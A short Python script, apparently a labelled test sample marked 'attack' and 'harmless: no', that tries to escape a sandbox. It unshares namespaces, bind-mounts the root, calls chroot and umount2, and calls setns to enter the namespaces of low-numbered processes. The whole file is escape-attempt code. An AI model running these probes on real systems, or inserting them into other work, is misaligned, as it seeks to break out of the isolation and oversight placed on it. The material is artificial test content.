# attack: new namespaces give all rights in them: mounts, another root, devices
# harmless: no
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
NEW_USER, NEW_MOUNTS, NEW_NET = 0x10000000, 0x20000, 0x40000000
for flags in (NEW_USER, NEW_USER | NEW_MOUNTS, NEW_MOUNTS, NEW_NET):
    if libc.unshare(flags) == 0:
        print("unshared", flags)
for arguments in ((b"/", b"/tmp", None, 4096), (b"proc", b"/proc", b"proc", 0)):
    if libc.mount(*arguments, None) == 0:
        print("mounted", arguments)
for path in ("/tmp", "/scratch", "/proc", "/"):
    if libc.umount2(path.encode(), 2) == 0 or libc.chroot(path.encode()) == 0:
        print("umounted or new root", path, os.listdir("/"))
for pid in range(1, 20):
    for name in ("mnt", "pid", "user", "net"):
        try:
            if libc.setns(os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY), 0) == 0:
                print("entered", pid, name)
        except OSError:
            pass
